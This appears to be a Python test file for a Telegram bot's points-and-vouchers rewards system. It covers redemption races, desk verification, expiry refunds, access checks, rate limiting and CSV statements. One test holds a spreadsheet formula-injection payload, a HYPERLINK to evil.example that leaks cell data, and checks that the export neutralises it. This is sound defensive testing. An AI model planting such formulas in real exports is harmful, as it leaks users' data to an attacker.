"""Rewards: the catalog, redeeming under contention, vouchers at the desk, expiry and refunds."""

import asyncio
import csv
import io
import re
from datetime import UTC, datetime, timedelta

import pytest

from bot.app import VOUCHER_EXPIRY_JOB
from bot.services.rewards import CODE_ALPHABET, CODE_LENGTH, show_code
from handlers.common import once
from storage.models import RoleName
from tests.support.flows import add_station, received, register, seed_talent
from tests.support.harness import ADMIN_ID, eventually

NOT_YOURS = "You have no voucher with this code. Please check the code, or see /vouchers."
REWARD = {
    "name_zh": "温泉酒店一晚",
    "name_en": "A night at the spa hotel",
    "description_zh": "双人房",
    "description_en": "Double room",
    "cost": 50,
    "stock": 3,
    "per_talent_limit": 1,
    "valid_days": 30,
}


@pytest.fixture
async def shop(harness):
    hotel = await add_station(harness, "Spa hotel", "温泉酒店")
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    reward = await harness.services.rewards.add(admin, {**REWARD, "station_id": hotel.id})
    return hotel, reward


async def give_points(harness, talent, points):
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    await harness.services.points.adjust(admin, talent.id, points, "Seed points")


async def partner_of(harness, station, name="Desk", language="en"):
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    invitation = await harness.services.admin.create_invitation(
        admin, station_id=station.id, role=RoleName.PARTNER
    )
    user = harness.user(name, language=language)
    await user.send(f"/start inv-{invitation.token}")
    return user


async def balance(harness, talent):
    return await harness.services.checkins.points.balance(talent.id)


async def test_redeem_through_the_chat(harness, shop):
    _, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 80)
    user = harness.user("T", id=501)
    await user.send("/rewards")
    assert user.last_text().startswith("Rewards · your balance: 80 points.")
    assert user.buttons() == ["✅ A night at the spa hotel · 50 points · 3 left"]
    await user.tap("✅ A night at the spa hotel · 50 points · 3 left")
    assert "3 left · valid 30 days after redeeming · at most 1 per person" in user.last_text()
    await user.tap("🎁 Redeem")
    assert user.last_text() == "Redeem A night at the spa hotel for 50 points?"
    await user.tap("Yes, redeem")
    photo = harness.api.bot_messages(501)[-1]
    code = re.search(r"Code: (\S+)", photo["caption"]).group(1).replace("-", "")
    assert len(code) == CODE_LENGTH and set(code) <= set(CODE_ALPHABET)
    assert not set(code) & set("01OIL")
    assert harness.api.file_bytes(photo["photo"][-1]["file_id"]).startswith(b"\x89PNG")
    assert await balance(harness, talent) == 30
    assert (await harness.services.rewards.rewards.get(reward.id)).stock == 2
    await user.send("/vouchers")
    assert user.buttons() == [f"✅ valid · A night at the spa hotel · {show_code(code)}"]


async def test_refusals_say_which_condition_failed(harness, shop):
    _, reward = shop
    poor = await seed_talent(harness, 501)
    await give_points(harness, poor, 10)
    assert (await harness.services.rewards.redeem(poor.id, reward.id))[0] == "too_few_points"
    rich = await seed_talent(harness, 502)
    await give_points(harness, rich, 500)
    assert (await harness.services.rewards.redeem(rich.id, reward.id))[0] == "redeemed"
    assert (await harness.services.rewards.redeem(rich.id, reward.id))[0] == "limit"
    user = harness.user("Rich", id=502)
    await user.send("/rewards")
    await user.press(once(f"rw:yes:{reward.id}"), forge=True)
    assert "You already have as many of these as one person may." in user.last_text()
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    await harness.services.rewards.edit(admin, reward.id, "stock", 0)
    other = await seed_talent(harness, 503)
    await give_points(harness, other, 500)
    assert (await harness.services.rewards.redeem(other.id, reward.id))[0] == "no_stock"
    await harness.services.rewards.set_active(admin, reward.id, False)
    assert (await harness.services.rewards.redeem(other.id, reward.id))[0] == "retired"
    assert await balance(harness, other) == 500


async def test_two_hundred_at_once_for_ten(harness, shop):
    hotel, _ = shop
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    reward = await harness.services.rewards.add(
        admin, {**REWARD, "stock": 10, "per_talent_limit": 0, "station_id": hotel.id}
    )
    talents = [await seed_talent(harness, 1000 + i) for i in range(200)]
    for talent in talents:
        await give_points(harness, talent, 60)
    outcomes = await asyncio.gather(
        *(harness.services.rewards.redeem(t.id, reward.id) for t in talents)
    )
    assert sum(o == "redeemed" for o, _, _ in outcomes) == 10
    assert sum(o == "no_stock" for o, _, _ in outcomes) == 190
    assert (await harness.services.rewards.rewards.get(reward.id)).stock == 0
    db = harness.services.db
    assert (
        await db.fetch_value("SELECT count(*) FROM vouchers WHERE reward_id = ?", (reward.id,))
        == 10
    )
    assert (
        await db.fetch_value(
            "SELECT count(*) FROM (SELECT talent_id FROM ledger"
            " GROUP BY talent_id HAVING sum(delta) < 0)"
        )
        == 0
    )
    for talent, (outcome, _, after) in zip(talents, outcomes, strict=True):
        assert await balance(harness, talent) == after == (10 if outcome == "redeemed" else 60)


async def test_the_desk_verifies_once(harness, shop):
    hotel, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 50)
    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
    desk = await partner_of(harness, hotel)
    await desk.send(f"/verify {show_code(voucher.code).lower()}")
    assert desk.last_text().startswith("🎟 A night at the spa hotel\nFor: Talent 501")
    await desk.tap("☑️ Mark used")
    await desk.tap("✅ Yes, mark it used")
    assert desk.alerts()[-1] == "Marked used."
    await desk.send(f"/start v-{voucher.code}")
    assert "Status: ☑️ already used on Nov 26, 2026, 10:00" in desk.last_text()
    assert "(by Desk)" in desk.last_text()
    assert desk.inline_buttons() == []
    await desk.press(once(f"vc:use:{voucher.code}"), forge=True)
    assert desk.alerts()[-1] == "This voucher was already used."
    used = await harness.services.rewards.rewards.voucher(voucher.code)
    assert (used.status, used.used_by) == ("used", desk.id)


async def test_wrong_partner_and_other_talents_are_refused(harness, shop):
    _, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 50)
    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
    elsewhere = await add_station(harness, "Scenic spot", "景区")
    wrong = await partner_of(harness, elsewhere, name="Wrong")
    await wrong.send(f"/verify {voucher.code}")
    assert wrong.last_text() == "Sorry, you are not allowed to do that."
    await wrong.press(once(f"vc:use:{voucher.code}"), forge=True)
    assert wrong.alerts()[-1] == "Sorry, you are not allowed to do that."
    stranger = await seed_talent(harness, 502)
    user = harness.user("Stranger", id=stranger.telegram_id)
    await user.send(f"/start v-{voucher.code}")
    assert user.last_text() == NOT_YOURS
    await user.send(f"/verify {voucher.code}")
    assert user.last_text() == "Sorry, you are not allowed to do that."
    owner = harness.user("Owner", id=501)
    await owner.send(f"/start v-{voucher.code}")
    assert harness.api.bot_messages(501)[-1]["caption"].startswith("🎟 A night at the spa hotel")
    assert (await harness.services.rewards.rewards.voucher(voucher.code)).status == "valid"
    await wrong.send("/verify NOT-A-CODE")
    assert wrong.last_text().startswith("That is not a voucher code.")


async def test_expiry_and_cancel_refund_exactly_once(harness, shop):
    _, reward = shop
    first, second = await seed_talent(harness, 501), await seed_talent(harness, 502)
    for talent in (first, second):
        await give_points(harness, talent, 50)
    _, expiring, _ = await harness.services.rewards.redeem(first.id, reward.id)
    _, cancelled, _ = await harness.services.rewards.redeem(second.id, reward.id)
    admin = harness.admin()
    await admin.send(f"/verify {cancelled.code}")
    await admin.tap("❌ Cancel voucher (refund)")
    assert admin.alerts()[-1] == "Cancelled; the points and the stock are back."
    await admin.press(once(f"vc:cancel:{cancelled.id}"), forge=True)
    assert admin.alerts()[-1] == "Only a valid voucher can be cancelled."
    harness.clock.advance(timedelta(days=31))
    assert await harness.services.rewards.expire_due() == 1
    assert await harness.services.rewards.expire_due() == 0
    for talent in (first, second):
        assert await balance(harness, talent) == 50
    assert (await harness.services.rewards.rewards.get(reward.id)).stock == 3
    refunds = await harness.services.db.fetch_value(
        "SELECT count(*) FROM ledger WHERE kind = 'refund'"
    )
    assert refunds == 2
    desk_code = await harness.services.rewards.rewards.voucher(expiring.code)
    assert desk_code.status == "expired"


async def test_admin_adds_a_reward_with_hostile_input_at_every_field(harness):
    await add_station(harness, "Spa hotel", "温泉酒店")
    admin = harness.admin()
    await admin.send("/admin")
    await admin.tap("🎁 Rewards")
    await admin.tap("➕ Add reward")
    answers = [
        ("name_zh", "x" * 5000, "That is too long", "温泉酒店一晚"),
        ("name_en", "   ", "This can't be empty.", "Spa night"),
        ("description_zh", "y" * 600, "That is too long", "双人房"),
        ("description_en", "   ", "This can't be empty.", "Double room"),
        ("station_id", "Spa hotel", "Please use the buttons below.", None),
        ("cost", "0", "Please type a whole number from 1 to 1,000,000.", "50"),
        ("stock", "-3", "Please type a whole number from 0 to 100,000.", "3"),
        ("per_talent_limit", "abc", "Please type a whole number from 0 to 1,000.", "1"),
        ("valid_days", "99999", "Please type a whole number from 1 to 3,650.", "30"),
    ]
    for field, bad, explanation, good in answers:
        await admin.send_sticker()
        assert admin.last_text().startswith("Please answer with a text message."), field
        await admin.send(bad)
        assert admin.last_text().startswith(explanation), field
        if good is None:
            await admin.tap("Spa hotel")
        else:
            await admin.send(good)
    assert "Added: Spa night." in admin.texts()
    [reward] = await harness.services.rewards.rewards.catalog(active_only=False)
    assert (reward.name_zh, reward.cost, reward.stock, reward.per_talent_limit) == (
        "温泉酒店一晚",
        50,
        3,
        1,
    )
    await admin.tap("Cost")
    await admin.send("70")
    assert (await harness.services.rewards.rewards.get(reward.id)).cost == 70
    await admin.tap("🚫 Retire")
    assert not (await harness.services.rewards.rewards.get(reward.id)).active


async def test_catalog_is_admins_only(harness, shop):
    hotel, reward = shop
    partner = await partner_of(harness, hotel)
    talent = harness.user("Plain")
    await talent.send("/help")
    for user in (partner, talent):
        for data in (
            "adm:rewards",
            f"adm:rw:{reward.id}",
            "adm:rwadd",
            f"adm:rwedit:{reward.id}:cost",
            f"adm:rwtoggle:{reward.id}",
            once("vc:cancel:1"),
        ):
            await user.press(data, forge=True)
            assert user.alerts()[-1] == "Sorry, you are not allowed to do that.", data
        await user.send("999")
    unchanged = await harness.services.rewards.rewards.get(reward.id)
    assert (unchanged.cost, unchanged.active) == (50, True)


async def test_partner_statement(harness, shop):
    hotel, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 50)
    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
    desk = await partner_of(harness, hotel)
    await desk.send(f"/verify {voucher.code}")
    await desk.tap("☑️ Mark used")
    await desk.tap("✅ Yes, mark it used")
    await desk.send("/statement")
    await desk.tap("Spa hotel · November 2026")
    assert desk.texts()[-2] == (
        "Spa hotel, November 2026: vouchers used: 1; points in total: 50. "
        "The spreadsheet (CSV) follows."
    )
    document = harness.api.bot_messages(desk.id)[-1]["document"]
    assert document["file_name"] == "statement-Spa hotel-2026-11.csv"
    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
    assert content.splitlines() == [
        "Voucher code,Used at,Reward,Holder,Points",
        f'{show_code(voucher.code)},"Nov 26, 2026, 10:00\u202fAM",A night at the spa hotel,'
        "Talent 501,50",
    ]
    other = await partner_of(harness, await add_station(harness, "Scenic", "景区"), name="O")
    await other.press(f"st:{hotel.id}:2026:11", forge=True)
    assert other.alerts()[-1] == "Sorry, you are not allowed to do that."
    assert received(harness, other.id)[-1] != desk.texts()[-2]


async def test_statement_cells_never_run_as_formulas(harness, shop):
    hotel, _ = shop
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    reward = await harness.services.rewards.add(
        admin,
        {**REWARD, "name_en": "+SUM(1,2)", "stock": 9, "station_id": hotel.id},
    )
    names = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "@SUM(A1:A9)", "-2+3", "Wang Li"]
    desk = await partner_of(harness, hotel)
    for i, name in enumerate(names):
        talent = await seed_talent(harness, 501 + i)
        await harness.services.people.update_profile(talent.id, {"name": name})
        await give_points(harness, talent, 50)
        _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
        await desk.send(f"/verify {voucher.code}")
        await desk.tap("☑️ Mark used")
        await desk.tap("✅ Yes, mark it used")
    await desk.send("/statement")
    await desk.tap("Spa hotel · November 2026")
    document = harness.api.bot_messages(desk.id)[-1]["document"]
    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(content)))
    assert [row[3] for row in rows[1:]] == [
        '\'=HYPERLINK("http://evil.example/?"&A1,"Click")',
        "'@SUM(A1:A9)",
        "'-2+3",
        "Wang Li",
    ]
    assert {row[2] for row in rows[1:]} == {"'+SUM(1,2)"}
    assert {row[4] for row in rows[1:]} == {"50"}


async def test_a_chinese_partner_reads_the_statement_in_chinese(harness):
    # A station's name may hold what no file name may, such as a slash.
    hotel = await add_station(harness, "Spa hotel", "温泉/酒店")
    admin = await harness.services.people.viewer(ADMIN_ID, "en")
    reward = await harness.services.rewards.add(admin, {**REWARD, "station_id": hotel.id})
    talent = await seed_talent(harness, 501)
    await harness.services.people.update_profile(talent.id, {"name": "王丽"})
    await give_points(harness, talent, 50)
    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
    desk = await partner_of(harness, hotel, name="前台小李", language="zh")
    await desk.send(f"/verify {voucher.code}")
    await desk.tap("☑️ 核销")
    await desk.tap("✅ 确认核销")
    await desk.send("/statement")
    await desk.tap("温泉/酒店 · 2026年11月")
    assert desk.texts()[-2] == (
        "温泉/酒店 2026年11月：共核销兑换券 1 张，合计 50 积分。明细表格随后发送。"
    )
    document = harness.api.bot_messages(desk.id)[-1]["document"]
    assert document["file_name"] == "结算单-温泉-酒店-2026-11.csv"
    content = harness.api.file_bytes(document["file_id"]).decode("utf-8-sig")
    assert content.splitlines() == [
        "券码,核销时间,兑换品,持券人,积分",
        f"{show_code(voucher.code)},2026年11月26日 10:00,温泉酒店一晚,王丽,50",
    ]


async def test_the_application_expires_vouchers_at_start_and_every_hour(harness, shop):
    _, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 50)
    user = harness.user("T", id=501)

    async def redeem_in_chat():
        await user.send("/rewards")
        await user.tap(user.buttons()[0])
        await user.tap("🎁 Redeem")
        await user.tap("Yes, redeem")
        [voucher, *_] = await harness.services.rewards.rewards.vouchers_of(talent.id)
        return voucher

    first = await redeem_in_chat()
    assert await balance(harness, talent) == 0
    job_queue = harness.app.job_queue
    [job] = job_queue.get_jobs_by_name(VOUCHER_EXPIRY_JOB)
    assert job.job.trigger.interval == timedelta(hours=1)

    async def status(voucher):
        return (await harness.services.rewards.rewards.voucher_by_id(voucher.id)).status

    async def expired(voucher):
        return await status(voucher) == "expired"

    harness.clock.advance(timedelta(days=45))
    assert await status(first) == "valid"
    await job_queue.start()  # what Application.start does; the job's first run is at start
    try:
        await eventually(lambda: expired(first))
        assert await balance(harness, talent) == 50
        assert (await harness.services.rewards.rewards.get(reward.id)).stock == 3
        await user.send("/vouchers")
        assert user.buttons() == [
            f"⌛ expired · A night at the spa hotel · {show_code(first.code)}"
        ]
        second = await redeem_in_chat()
        assert second.id != first.id and await balance(harness, talent) == 0
        # An hour later the scheduler runs it again: the new voucher expires, the old one is
        # not refunded a second time.
        harness.clock.advance(timedelta(days=31))
        job.job.modify(next_run_time=datetime.now(UTC))
        await eventually(lambda: expired(second))
    finally:
        await job_queue.stop()
    refunds = await harness.services.db.fetch_all(
        "SELECT ref, delta FROM ledger WHERE kind = 'refund' ORDER BY id"
    )
    assert [tuple(r) for r in refunds] == [
        (f"voucher:{first.id}", 50),
        (f"voucher:{second.id}", 50),
    ]
    assert await balance(harness, talent) == 50
    assert (await harness.services.rewards.rewards.get(reward.id)).stock == 3


async def test_a_stranger_cannot_tell_a_real_code_from_an_unknown_one(harness, shop):
    _, reward = shop
    owner = await seed_talent(harness, 501)
    await give_points(harness, owner, 50)
    _, voucher, _ = await harness.services.rewards.redeem(owner.id, reward.id)
    unknown = "ABCDEFGHJ" if voucher.code != "ABCDEFGHJ" else "ABCDEFGHK"
    for language, expected in (("en", NOT_YOURS), ("zh", "您没有这个券码的兑换券。")):
        stranger = harness.user("Stranger", language=language)
        await stranger.send(f"/start v-{voucher.code}")
        theirs = stranger.last_text()
        await stranger.send(f"/start v-{unknown}")
        assert stranger.last_text() == theirs and theirs.startswith(expected)
    # At a desk the difference is useful and stays: the hotel learns it is another's voucher.
    elsewhere = await partner_of(harness, await add_station(harness, "Scenic", "景区"))
    await elsewhere.send(f"/verify {unknown}")
    assert elsewhere.last_text() == "No voucher has this code."
    await elsewhere.send(f"/verify {voucher.code}")
    assert elsewhere.last_text() == "Sorry, you are not allowed to do that."


async def test_wrong_codes_are_limited_per_user_and_hour(harness, shop):
    hotel, reward = shop
    owner = await seed_talent(harness, 501)
    await give_points(harness, owner, 50)
    _, voucher, _ = await harness.services.rewards.redeem(owner.id, reward.id)
    guesser = harness.user("Guesser")
    guesses = [c * 9 for c in "ABCDEFGHJK"]
    for guess in guesses:
        await guesser.send(f"/start v-{guess}")
        assert guesser.last_text() == NOT_YOURS
    harness.clock.advance(timedelta(minutes=20))
    await guesser.send(f"/start v-{voucher.code}")
    limited = "Too many codes that did not match. Please try again in 40 minutes."
    assert guesser.last_text() == limited
    # A forged Mark used button is a lookup too, and is held back the same way.
    await guesser.press(once(f"vc:use:{voucher.code}"), forge=True)
    assert guesser.alerts()[-1] == limited
    assert (await harness.services.rewards.rewards.voucher(voucher.code)).status == "valid"
    # Others are not held back, and the guesser may try again once the hour is over.
    desk = await partner_of(harness, hotel)
    await desk.send(f"/verify {voucher.code}")
    assert desk.last_text().startswith("🎟 A night at the spa hotel")
    harness.clock.advance(timedelta(minutes=40))
    await guesser.send(f"/start v-{guesses[0]}")
    assert guesser.last_text() == NOT_YOURS
    # Admins see every voucher anyway; wrong codes do not hold them back.
    admin = harness.admin()
    for guess in guesses * 2:
        await admin.send(f"/verify {guess}")
    await admin.send(f"/verify {voucher.code}")
    assert admin.last_text().startswith("🎟 A night at the spa hotel")


@pytest.mark.parametrize(
    "data", ["st:{station}:0:1", "st:{station}:2026:0", "st:{station}:2026:13", "st:999:2026:11"]
)
async def test_a_forged_statement_button_is_an_old_button(harness, shop, data):
    hotel, _ = shop
    admin = harness.admin()
    await admin.send("/statement")
    await admin.press(data.format(station=hotel.id), forge=True)
    assert (
        admin.alerts()[-1]
        == "That button has expired; please use the buttons of the newest message."
    )
    assert not any(m.get("document") for m in harness.api.bot_messages(admin.id))


async def test_verify_asks_for_the_code(harness, shop):
    hotel, reward = shop
    talent = await seed_talent(harness, 501)
    await give_points(harness, talent, 80)
    _, voucher, _ = await harness.services.rewards.redeem(talent.id, reward.id)
    desk = await partner_of(harness, hotel)
    await desk.tap("Verify")
    assert desk.last_text().startswith("Please type the code on the voucher")
    await desk.send_sticker()
    assert desk.last_text().startswith("Please type the code as text.")
    await desk.press("rw:view:1", forge=True)
    assert desk.last_text().startswith(
        "That button has expired; please use the buttons of the newest message."
    )
    await desk.send(show_code(voucher.code).lower())
    assert desk.last_text().startswith("🎟 A night at the spa hotel\nFor: Talent 501")
    await desk.send("hello")  # the question is over
    assert "Please type the code" not in desk.last_text()


async def test_verify_question_cancel_and_bad_codes(harness, shop):
    hotel, _ = shop
    desk = await partner_of(harness, hotel)
    await desk.send("/verify")
    await desk.send("/cancel")
    assert desk.last_text() == "Cancelled; no voucher was looked up."
    await desk.send("/verify")
    await desk.tap("✖ Cancel")
    assert desk.last_text() == "Cancelled; no voucher was looked up."
    await desk.send("/verify")
    await desk.send("not a code")
    assert desk.last_text().startswith("That is not a voucher code.")
    await desk.send("/verify")
    await desk.send("/help")
    assert desk.texts()[-2] == "Cancelled; no voucher was looked up."
    assert desk.last_text().startswith("What you can do")


async def test_verify_is_refused_to_talents(harness):
    alice = harness.user()
    await register(harness, alice)
    await alice.send("/verify")
    assert alice.last_text() == "Sorry, you are not allowed to do that."
    await alice.send("ABC-DEF-234")
    assert "Please type the code" not in alice.last_text()
